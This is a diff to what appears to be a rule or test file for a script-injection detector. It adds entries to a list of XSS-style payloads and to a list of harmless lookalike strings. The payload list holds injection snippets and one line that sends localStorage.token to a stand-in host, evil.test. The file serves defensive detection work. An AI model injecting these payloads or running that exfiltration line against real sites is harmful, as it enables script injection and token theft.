@@ -38,6 +38,7 @@ export const scriptCall: ValueRule = {
     ...['onerror=alert;throw 1', 'with(document)forms[0].submit()', 'setTimeout("go()",5)'],
     ...["Reflect.get(window,'alert')(1)", 'Array.prototype.sort.call`${alert}1337`'],
     ...['Function`$${`${alert}(1)`}```', '(prompt())', '(async x=>alert(x))(1)'],
+    '(async()=>alert(await 1))()',
     ...['(function(x){alert(x)})(1)', "fetch('//evil.test/'+localStorage.token)"],
   ],
   lookalikes: [
@@ -59,6 +60,7 @@ export const scriptCall: ValueRule = {
     ...["if (confirm('Delete this item?')) { remove(item) }", 'name = input(prompt("Name? "))'],
     ...['el.onclick = function() { alert(this.id) }', 'const show = (x) => alert(x); (show)(1)'],
     ...['if (confirm("Sure?")) (run())', 'useEffect(() => { alert(x) })(y)'],
+    ...['alert (await the reply)', 'the prompt(function) and confirm(void)'],
     ...['Never use `eval(name)`; parse the text.', '5;confirm(email)'],
     { body: { onclick: "location.href='https://www.example.com/shop'" } },
     { body: { 'query.q': "location.href='https://www.example.com'" } },
